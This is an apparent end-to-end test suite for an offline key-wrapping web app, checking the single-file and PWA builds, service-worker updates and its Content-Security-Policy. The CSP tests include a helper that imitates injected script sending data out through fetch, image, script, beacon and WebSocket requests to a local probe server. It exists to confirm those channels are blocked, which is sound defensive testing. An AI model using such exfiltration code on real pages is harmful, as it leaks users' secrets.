// The two offline forms in Chromium (issue 4 "Offline trust"; README "Offline copies and verification"):
// - the single file dist/byok-wrap.html, alone in a folder, opened from file:// with the network off: a whole
//   ceremony, unwrapped by OpenSSL, without one request or one CSP violation;
// - the PWA: after one visit its service worker serves the app with the network cut, and a whole ceremony
//   works; a newer build waits for "Reload to update" and its activation deletes the old cache;
// - the CSP of both forms stops the page from reaching a listening server (fetch, image, script, beacon,
//   websocket): the browser reports the violations and the server hears nothing.
import { randomBytes } from 'node:crypto';
import { copyFileSync, existsSync, mkdirSync, readFileSync, statSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { extname, join, normalize, resolve, sep } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Browser, BrowserContext, BrowserContextOptions, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { openssl, scratch } from '../helpers/openssl.ts';
import { makeIwk, unwrapWithOpenssl } from '../helpers/unwrap.ts';
import { backUpAndCheck, button, download, field, launchBrowser, openApp, screenshot, serverLog } from './harness.ts';

const DIST = resolve(import.meta.dirname, '../../dist');
const PASSPHRASE = 'offline copies are checked copies';

let browser: Browser;
const dir = scratch('byok-e2e-offline-');

/** A server the page must never reach: it records every request it gets. */
interface Listener {
  url: string;
  hits: string[];
  /** files served from dist/, some replaced (to publish "a newer build") */
  overrides: Map<string, Buffer>;
  close(): Promise<void>;
}

async function listen(serveDist: boolean): Promise<Listener> {
  const hits: string[] = [];
  const overrides = new Map<string, Buffer>();
  const server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    const path = decodeURIComponent((req.url ?? '/').split('?')[0]!);
    const file = normalize(join(DIST, path.endsWith('/') ? path + 'index.html' : path));
    const body = overrides.get(path) ?? (serveDist && file.startsWith(DIST + sep) && existsSync(file) && statSync(file).isFile() ? readFileSync(file) : undefined);
    if (body === undefined) {
      res.writeHead(404).end();
      return;
    }
    const types: Record<string, string> = { '.html': 'text/html', '.js': 'text/javascript', '.css': 'text/css', '.webmanifest': 'application/manifest+json', '.png': 'image/png', '.svg': 'image/svg+xml' };
    res.writeHead(200, { 'content-type': types[extname(file)] ?? 'application/octet-stream', 'cache-control': 'no-store' }).end(body);
  });
  await new Promise<void>((ok) => server.listen(0, '127.0.0.1', ok));
  const { port } = server.address() as AddressInfo;
  const close = (): Promise<void> =>
    new Promise((ok) => {
      server.close(() => ok());
      server.closeAllConnections(); // keep-alive sockets too: afterwards nothing listens on the port
    });
  return { url: `http://127.0.0.1:${port}/`, hits, overrides, close };
}

/** Every CSP violation in every page of the context, from the first script on (also across reloads). */
async function watchCsp(context: BrowserContext): Promise<string[]> {
  const violations: string[] = [];
  await context.exposeBinding('__byokCspViolation', (_source, v: string) => void violations.push(v));
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => {
      (window as unknown as { __byokCspViolation(v: string): void }).__byokCspViolation(`${e.effectiveDirective} ${e.blockedURI}`);
    });
  });
  return violations;
}

/** Console errors and uncaught exceptions (the browser also logs CSP violations there). */
function watchErrors(page: Page): string[] {
  const errors: string[] = [];
  page.on('console', (m) => {
    if (m.type() === 'error' || m.type() === 'warning') errors.push(`${m.type()}: ${m.text()}`);
  });
  page.on('pageerror', (e) => errors.push(String(e)));
  return errors;
}

interface Watched {
  context: BrowserContext;
  page: Page;
  /** every URL the browser asked for, the page's own included */
  requests: string[];
  violations: string[];
  errors: string[];
}

/** A fresh context and page at `url`, watched from the first script on; resolves when the app has rendered. */
async function open(url: string, options: BrowserContextOptions = {}): Promise<Watched> {
  const context = await browser.newContext(options);
  const requests: string[] = [];
  context.on('request', (r) => requests.push(r.url()));
  const violations = await watchCsp(context);
  const page = await context.newPage();
  const errors = watchErrors(page);
  await page.goto(url);
  await page.getByRole('heading', { level: 1 }).waitFor();
  return { context, page, requests, violations, errors };
}

const controlledBySw = (page: Page): Promise<unknown> => page.waitForFunction(() => navigator.serviceWorker.controller !== null);

/** Steps 1–5 with an OpenSSL-made wrapping key and token; OpenSSL unwraps the downloaded material. */
async function ceremony(page: Page, spec: 'EC_P256' | 'EC_SM2'): Promise<void> {
  const tag = `${spec}-${randomBytes(4).toString('hex')}`;
  const iwk = makeIwk(spec === 'EC_SM2' ? 'sm2' : 'rsa', dir);
  const keyFile = dir.write(`publickey_${tag}.pem`, iwk.pubPem);
  const tokenFile = dir.write(`token_${tag}.txt`, randomBytes(480).toString('base64'));
  const downloads = dir.path(`downloads-${tag}`);

  await field(page, 'Instance type').selectOption('software');
  await field(page, 'Key spec').selectOption(spec);
  await field(page, 'Wrapping public key').setInputFiles(keyFile);
  await field(page, 'Import token').setInputFiles(tokenFile);
  await expect.poll(() => page.getByTestId('wrapping-key-spec').textContent()).toBe(iwk.kind === 'rsa' ? 'RSA_2048' : 'EC_SM2');
  await button(page, 'Generate new key').click();
  await expect.poll(() => page.getByTestId('target-spec').textContent(), { timeout: 60_000 }).toBe(spec);
  const backup = await backUpAndCheck(page, downloads, PASSPHRASE);
  await button(page, 'Wrap key material').click();
  const material = await download(page, downloads, () => button(page, 'Download key material').click());

  const { tak } = unwrapWithOpenssl(Buffer.from(material.bytes.toString('latin1'), 'base64'), iwk);
  const backupDer = openssl(['pkey', '-in', backup.path, '-passin', `pass:${PASSPHRASE}`, '-outform', 'DER']);
  if (iwk.kind === 'rsa') {
    expect(openssl(['pkey', '-inform', 'DER', '-outform', 'DER'], tak).equals(backupDer)).toBe(true);
  } else {
    expect(tak.length).toBe(32); // the raw scalar D, which the backup's PKCS#8 holds
    expect(backupDer.includes(tak)).toBe(true);
  }
}

beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
  dir.dispose();
});

describe('single file', () => {
  it('opens alone from file:// with the network off and runs a whole SM2 ceremony: no request, no CSP violation', async () => {
    // As on a USB stick: the one file, nothing next to it.
    const stick = dir.path('stick');
    mkdirSync(stick);
    copyFileSync(join(DIST, 'byok-wrap.html'), join(stick, 'byok-wrap.html'));
    const url = pathToFileURL(join(stick, 'byok-wrap.html')).href;

    const { context, page, requests, violations, errors } = await open(url, { acceptDownloads: true, offline: true });
    expect(await page.locator('meta[name="byok-wrap-form"]').getAttribute('content')).toBe('single-file');

    await ceremony(page, 'EC_SM2');

    // no service worker on file://: the browser refuses one there (and the app does not ask)
    expect(await page.evaluate(() => navigator.serviceWorker.getRegistrations().then(() => 'allowed', (e: Error) => e.name))).toBe('SecurityError');
    expect(requests.filter((u) => !u.startsWith('blob:') && !u.startsWith('data:'))).toEqual([url]);
    expect(violations).toEqual([]);
    expect(errors).toEqual([]);
    await context.close();
  });
});

describe('PWA', () => {
  it('after one visit, the service worker serves the app with the server gone and the network cut; a whole ceremony works with no CSP violation', async () => {
    // Its own server, so the network can really go away: Chromium's offline emulation does not cover the
    // browser's own update check for the worker script.
    const site = await listen(true);
    const { context, page, violations, errors } = await open(site.url, { acceptDownloads: true });
    await controlledBySw(page);
    expect(await page.evaluate(() => caches.keys())).toEqual([expect.stringMatching(/^byok-wrap-\d+\.\d+\.\d+-[0-9a-f]{16}$/)]);
    // the first visit asked for the app's own files (the page's, then the precache's) and nothing else
    const files = readFileSync(join(DIST, 'SHA256SUMS'), 'utf8').trim().split('\n').map((l) => `GET /${l.slice(66)}`);
    expect(files).toEqual(expect.arrayContaining(site.hits.filter((h) => h !== 'GET /')));

    await site.close();
    await context.setOffline(true);
    const responses: { url: string; fromServiceWorker: boolean }[] = [];
    page.on('response', (r) => responses.push({ url: r.url(), fromServiceWorker: r.fromServiceWorker() }));
    const response = await page.reload();
    expect(response?.fromServiceWorker()).toBe(true);
    await page.getByRole('heading', { level: 1 }).waitFor();
    expect(await page.evaluate(() => navigator.onLine)).toBe(false);
    expect(await page.locator('#online-warning').count()).toBe(0);

    await ceremony(page, 'EC_P256');

    expect(responses.filter((r) => !r.fromServiceWorker && !r.url.startsWith('blob:'))).toEqual([]);
    expect(responses.length).toBeGreaterThanOrEqual(3); // page, script, stylesheet
    expect(violations).toEqual([]);
    expect(errors).toEqual([]);
    await context.close();
  });

  it('served by the test harness, the first visit installs the worker and nothing reaches the server afterwards', async () => {
    const s = await openApp(browser); // waits until the service worker is active
    await controlledBySw(s.page);
    expect(s.serverRequestsAfterLoad()).toEqual([]);
    expect(serverLog().map((r) => r.url)).toContain('/sw.js');
    expect(s.blocked).toEqual([]);
    expect(s.pageErrors).toEqual([]);
    await s.close();
  });

  it('a newer build waits for "Reload to update"; taking over, it deletes the old cache', async () => {
    const site = await listen(true);
    const { context, page, violations, errors } = await open(site.url);
    await controlledBySw(page);
    const [oldCache] = await page.evaluate(() => caches.keys());

    // Publish "the next build": the same files, a service worker with another cache name.
    const sw = readFileSync(join(DIST, 'sw.js'), 'utf8');
    const next = sw.replace(/const CACHE_NAME = "byok-wrap-[^"]+";/, 'const CACHE_NAME = "byok-wrap-next-build";');
    expect(next).not.toBe(sw);
    site.overrides.set('/sw.js', Buffer.from(next));
    await page.evaluate(() => navigator.serviceWorker.getRegistration().then((r) => r!.update()));

    const reload = button(page, 'Reload to update');
    await reload.waitFor();
    expect(await page.locator('#update-banner').textContent()).toContain('A new version of byok-wrap is ready.');
    await screenshot(page.locator('#update-banner'), 'update-banner.png');
    // nothing was replaced behind the operator's back
    expect(await page.evaluate(() => navigator.serviceWorker.getRegistration().then((r) => r?.waiting !== null))).toBe(true);
    expect(await page.evaluate(() => caches.keys())).toEqual(expect.arrayContaining([oldCache, 'byok-wrap-next-build']));

    await Promise.all([page.waitForEvent('load'), reload.click()]);
    await page.getByRole('heading', { level: 1 }).waitFor();
    expect(await page.locator('#update-banner').count()).toBe(0);
    expect(await page.evaluate(() => caches.keys())).toEqual(['byok-wrap-next-build']);
    expect(violations).toEqual([]);
    expect(errors).toEqual([]);
    await context.close();
    await site.close();
  });
});

describe('Content-Security-Policy', () => {
  // What an injected script (a compromised dependency, a pasted console snippet) would try first.
  const exfiltrate = async (target: string): Promise<string[]> => {
    const tried: string[] = [];
    await fetch(`${target}fetch`, { mode: 'no-cors' }).then(
      () => tried.push('fetch sent'),
      () => tried.push('fetch refused'),
    );
    const img = new Image();
    img.src = `${target}img`;
    const script = document.createElement('script');
    script.src = `${target}script.js`;
    document.head.append(script);
    tried.push(`beacon ${navigator.sendBeacon(`${target}beacon`, 'key') ? 'queued' : 'refused'}`);
    try {
      new WebSocket(`${target.replace('http:', 'ws:')}ws`);
    } catch {
      tried.push('websocket refused');
    }
    await new Promise((ok) => setTimeout(ok, 500));
    return tried;
  };

  for (const form of ['PWA over http', 'single file on file://'] as const) {
    it(`${form}: a request to a listening server is blocked and reported; the server hears nothing`, async () => {
      const probe = await listen(false);
      // no request routing: only the CSP stands in the way
      const { context, page, violations } = await open(form === 'PWA over http' ? inject('baseUrl') : pathToFileURL(join(DIST, 'byok-wrap.html')).href);
      expect(violations).toEqual([]);

      const tried = await page.evaluate(exfiltrate, probe.url);
      expect(tried).toContain('fetch refused');
      await expect.poll(() => new Set(violations.map((v) => v.split(' ')[0])).size).toBeGreaterThanOrEqual(3);
      const blocked = violations.map((v) => v.split(' '));
      for (const [directive, path] of [
        ['connect-src', 'fetch'],
        ['img-src', 'img'],
        ['script-src-elem', 'script.js'],
        ['connect-src', 'beacon'],
      ])
        expect(blocked, `${directive} ${path}`).toContainEqual([directive, `${probe.url}${path}`]);
      expect(probe.hits).toEqual([]);
      await context.close();
      await probe.close();
    });
  }
});
